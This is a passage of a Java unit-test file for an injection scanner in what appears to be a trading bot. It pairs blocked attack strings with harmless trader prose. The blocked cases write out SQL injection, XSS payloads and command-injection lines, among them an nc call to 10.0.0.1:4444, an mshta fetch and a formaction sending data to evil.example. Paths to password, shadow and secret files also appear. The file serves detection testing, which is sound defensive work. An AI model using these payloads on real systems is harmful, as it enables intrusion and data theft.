      quoteCharacter = '~',
      value = {
        "a Markdown link named system  ^ see [system](https://example.com/system) for the runbook",
        "quoted pieces in a note       ^ the 'sys'.'tem' note (draft) was sent",
        "a bracketed word, asides      ^ [exec] desk (London) (closed)",
        "a link, then an aside         ^ [exec](http://x) (done)"
      })
  @DisplayName("Markdown links and bracketed words in notes pass")
  void phpNameBuiltAsideProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "a comparison in parentheses   ^ IF        (2 GEQ 15)             echo \"bigger\"",
        "negated, in parentheses       ^ if not (2 equ 2) echo hey",
        "quoted operands with spaces   ^ if \"A A\" == \"A A\" echo same",
        "the switch against the IF     ^ if/i a==b foo"
      })
  @DisplayName("cmd's IF with its own operators, quoted operands or an attached switch is blocked")
  void batchIfForms(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "pseudo-code in a note      ^ if (price == 10) buy more",
        "if/then                    ^ if/then logic in the strategy",
        "a condition in parentheses ^ if (rates go up) we sell",
        "for/against                ^ for/against the motion"
      })
  @DisplayName("conditions in notes pass")
  void batchIfFormsProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "any program's history       ^ /home/x/.ksh_history",
        "a history without _         ^ ../../.zhistory",
        "a service's password file   ^ /etc/samba/smbpasswd",
        "three directories deep      ^ usr/local/pgsql/data/passwd",
        "a backup of the shadow file ^ /etc/shadow-",
        "an editor's copy            ^ ../wp-config.php~",
        "a saved copy                ^ ../../.env.bak",
        "a web server's configuration ^ etc/apache2/ports.conf",
        "a file server's log         ^ /var/log/samba/log.smbd",
        "a database's error log      ^ usr/local/mysql/data/mysql.err",
        "an application server's log ^ /opt/tomcat/logs/catalina.out",
        "a system log                ^ var/log/xferlog",
        "IIS's configuration         ^ system32/inetsrv/config/administration.config",
        "any history dotfile alone   ^ .zhistory",
        "an editor's secrets alone   ^ .vimrc",
        "WordPress's configuration   ^ wp-config.php"
      })
  @DisplayName(
      "histories, password files and backup copies of sensitive files are found by their names")
  void sensitiveFileShapes(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "history in a note           ^ see the order history",
        "a dotted word               ^ the .history of the desk",
        "a change-password route     ^ /account/passwd",
        "a dash after a path         ^ reports/2026/q4-",
        "passwd in a sentence        ^ the passwd field on the form is empty",
        "the runtime's own config    ^ /etc/antbot/antbot.yaml",
        "the runtime's install path  ^ /opt/antbot/conf/application.yaml",
        "a web root in a note        ^ the docs sit in /var/www/html/index.html",
        "a server named in prose     ^ the apache and mysql boxes are up",
        "an app's own bind directory ^ /opt/desk/bind/listen.yaml"
      })
  @DisplayName("histories, passwords and backups in notes pass")
  void sensitiveFileShapesProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '"',
      value = {
        "a playbook run              ^ ansible-playbook site.yml",
        "a collection installed      ^ ansible-galaxy collection install community.general",
        "a security tool, quoted     ^ 'cscli' alerts list",
        "a cluster tool              ^ kubectl get secrets",
        "an interactive tool alone   ^ chef-shell",
        "an information tool alone   ^ printenv",
        "a wrapper and its program   ^ time bsdtar",
        "sudo and a program          ^ sudo socat",
        "an & opening the value      ^ &echo x",
        "an & after a space          ^ a &echo x",
        "the previous directory      ^ cd ~-",
        "the working directory alone ^ ~-",
        "a program past its aliases  ^ \\ls",
        "a look-up of a program      ^ which gcc",
        "a LOLBAS binary             ^ ;mshta http://example.com/x.hta",
        "a LOLBAS binary fetching    ^ &certoc -LoadDLL x.dll",
        "a program on a share        ^ ;\\\\host\\share\\x.exe",
        "a group alone               ^ ;(whoami)",
        "after a cut-off assignment  ^ =ls -la",
        "a JSON tool piped on        ^ x|jq .",
        "watch and a program         ^ watch ls"
      })
  @DisplayName(
      "administration tools with plain arguments, information tools alone, a wrapper's program,"
          + " a command glued to a free &, a program past its aliases, which and a program, and bash's"
          + " ~+ and ~- are commands")
  void wholeValueCommands(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '"',
      value = {
        "a tool in a sentence        ^ ansible-playbook is what ops run on Fridays",
        "a tool named as the subject ^ cscli is the CrowdSec tool",
        "a tool's output in a note   ^ lsof showed the socket",
        "an & in an abbreviation     ^ R&D team",
        "an & in a spaced phrase     ^ Q &A session at 3pm",
        "about minus two             ^ drift ~-2 bps since the open",
        "Windows' start in a to-do   ^ start python",
        "a timing in prose           ^ time ssh took 3s",
        "an environment's name       ^ env staging",
        "a noise with a hyphen       ^ salt-and-pepper noise on the chart",
        "a Windows path              ^ C:\\temp\\ls",
        "a question about a version  ^ which python version do we run",
        "a module in a question      ^ I wonder which perl module",
        "a document on a share       ^ see \\\\fs\\desk\\q4.xlsx; then call",
        "a word in parentheses       ^ go; (python) later",
        "a spreadsheet formula       ^ =SUM(A1:A3)",
        "watch and a symbol          ^ watch btc"
      })
  @DisplayName("prose near the whole-value command classes passes")
  void wholeValueCommandsProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      value = {
        "an include of a file once   ^ require_once",
        "WordPress fetching a URL    ^ x=wp_safe_remote_get&y=1",
        "the old request variables   ^ $HTTP_REQUEST_VARS"
      })
  @DisplayName("PHP-only names alone or beside code, and the old request variables, are PHP")
  void phpOnlyNames(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      value = {
        "a name in a sentence        ^ include_once is the safer one",
        "a function named in a note  ^ wp_remote_get in the plugin times out"
      })
  @DisplayName("PHP-only names in sentences pass")
  void phpOnlyNamesProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "empty single quotes inside     | w''hoami",
        "empty double quotes inside     | w\"\"hoami",
        "cmd carets between the letters | w^h^o^a^m^i"
      })
  @DisplayName(
      "a reconnaissance command alone, its letters split by empty quotes or carets, is blocked")
  void stuffedCommandAlone(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "an SQL-escaped apostrophe | O''Brien''s note: I''d hold",
        "a power                   | 5^2 = 25 contracts",
        "doubled quotes in prose   | say \"\"hello\"\" to the desk",
        "a caret in a formula      | x^y over the window"
      })
  @DisplayName("prose with doubled quotes and carets passes")
  void stuffedCommandAloneProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "Windows' timeout after a separator ^ ;timeout /t 5",
        "Windows' timeout, two switches     ^ 127.0.0.1&&timeout /T 5 /nobreak",
        "Windows' timeout as the value      ^ timeout /t 5",
        "GNU timeout wrapping a command     ^ x; timeout 5 id"
      })
  @DisplayName(
      "timeout with a /t switch is Windows' timeout, not a wrapper; GNU timeout's duration is skipped"
          + " to the command it runs")
  void timeoutForms(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "a timeout in minutes      | timeout 5 minutes is enough",
        "a switch word in prose    | a timeout /t of 5 is what the docs say",
        "a session timeout         | session timeout 30 min; then log in again"
      })
  @DisplayName("prose about timeouts passes")
  void timeoutFormsProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "a backquoted name closed, or        ^ 1` OR 1=1",
        "a backquoted name closed, union     ^ x` UNION SELECT username,password FROM users--",
        "a backquoted name closed, stacked   ^ 1`; DROP TABLE users--",
        "a number, a truth keyword           ^ 1 OR true",
        "a number closed by a parenthesis    ^ 1) OR 1",
        "a number, a truth value, a comment  ^ -1 OR 1#",
        "two parentheses, a truth keyword    ^ 1)) or false;"
      })
  @DisplayName(
      "SQL after a closed backquoted name, and a bare truth value after a number that a"
          + " parenthesis, a comment or a truth keyword marks as a query's, are blocked")
  void backquotedNamesAndBareTruthValues(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "Markdown code spans joined by or   | use `price` or `size` in the filter",
        "a code span then a condition word  | `BTC-USD` or 1 lot, whichever is smaller",
        "a number or another                | 1 or 2",
        "lots or lots                       | buy 1 or 2 lots",
        "a parenthesis in prose             | (see note 1) or 2",
        "a truth word in prose              | 1 or true, both read the same"
      })
  @DisplayName("prose near the backquote and bare-truth-value classes passes")
  void backquotedNamesAndBareTruthValuesProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '^',
      quoteCharacter = '~',
      value = {
        "SQLite's shell dot-command          ^ ;.shell ls",
        "SQLite's system dot-command, alone  ^ .system id",
        "SQLite output piped to a program    ^ 1;.output |nc 10.0.0.1 4444",
        "a script read through a pipe        ^ .read '|id'",
        "a Windows group listed              ^ & net localgroup administrators",
        "a Windows service queried           ^ sc queryex wuauserv",
        "USER compared after a closed string ^ ' and user like 'r%",
        "USER compared, or                   ^ ' or user like '%"
      })
  @DisplayName("SQLite dot-commands, net localgroup and SQL's USER as an operand are blocked")
  void moreCommandAndSqlClasses(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "a dot-file named in prose       | the .system file is in the repo",
        "a pipe in prose                 | output | once more",
        "net figures after a separator   | Q3 results; net user growth",
        "a user in a sentence            | filter by user = alice and user like bob",
        "USER without a closed string    | 1 and user=1"
      })
  @DisplayName("prose near the SQLite, net and USER classes passes")
  void moreCommandAndSqlClassesProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "a quoted PHP-only name called       | ('phpinfo')()",
        "a double-quoted name called         | \"phpinfo\"();",
        "a call's result called              | (implode('',['sys','tem']))('id')",
        "an element called by its index      | [0]('id')",
        "an element in braces, a variable    | {0}($_GET[1])"
      })
  @DisplayName("PHP functions called by a computed name are blocked")
  void phpComputedCallees(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "a Markdown link              | [1](https://example.com/chart)",
        "a footnote in prose          | [0](see note)",
        "brackets side by side        | (see note (1))(2)",
        "a function of a function     | f(x)(y)"
      })
  @DisplayName("prose and Markdown near the computed-callee class pass")
  void phpComputedCalleesProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "a handler set to a sink           | window.onerror=confirm;throw 2",
        "a sink as the coercion hook       | toString=prompt;self+''",
        "a sink stored and then called     | f=confirm;f(2)",
        "a sink handed to Reflect.apply    | Reflect.apply(prompt,self,[2])",
        "JSFuck's undefined atom           | [][[]]",
        "a hijacking attribute injected    | q\" formaction=\"//evil.example/steal",
        "a namespace attribute injected    | x' xmlns:v='urn:schemas-microsoft-com:vml",
        "an AngularJS scope member         | {{$root.$$childHead}}",
        "literal closed with a parenthesis | q') rlike ('^a",
        "limit after a literal, commented  | 7' limit 1#",
        "a DB2 catalogue                   | sysibm.sysdummy1",
        "an Oracle DBA view                | dba_role_privs",
        "an Oracle package procedure       | dbms_xmlquery.newcontext('select 1')",
        "a UDF called                      | sys_exec('id')",
        "a PostgreSQL system function      | pg_ls_waldir()",
        "a 64-bit boundary                 | 9223372036854775807",
        "a float beyond a double           | 3e400",
        "the denormal a digit lower        | 2.2250738585072008e-308",
        "an exponent before a name         | 1.e.passwd",
        "a Mongo operator as a JS key      | { $gt: '' }",
        "a $where body returning true      | \"); return 1; //"
      })
  @DisplayName("XSS and SQL classes of CRS v4 families 941 and 942 are blocked")
  void crsV4XssSqlClasses(String what, String value) {
    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "a condition in a sentence         | or 1=1 was a typo in my note",
        "a template placeholder            | {{ price }} in the template",
        "a JSON path                       | json path $.orders[0] of the export",
        "a Mongo operator named            | mongo $gt filter in our report",
        "a sink name as a setting          | valueOf=alert level for the desk",
        "Reflect.apply named               | Reflect.apply is a JS thing, not ours",
        "sink names listed                 | (alert, confirm, prompt) are the three modes",
        "an attribute named                | the formaction field of the form",
        "e.g. after a number               | see 1.e.g. the first leg",
        "return in a sentence              | it's done; return true later",
        "this in a sentence                | this.week == good for us",
        "a name with a limit               | O'Neil limit 1 -- the cap",
        "like in brackets                  | (see 'the note') like ('this one')",
        "dba as doing business as          | dba_name of the counterparty",
        "exponents in a list               | 1e3 lots, 2e5 max, 5e10 cap",
        "curdate as a word                 | curdate (today) in the report"
      })
  @DisplayName("trader prose near the CRS v4 XSS and SQL classes passes")
  void crsV4XssSqlClassesProse(String what, String value) {
    assertThat(scanner.scan(value).threat()).as(what).isFalse();
  }
}
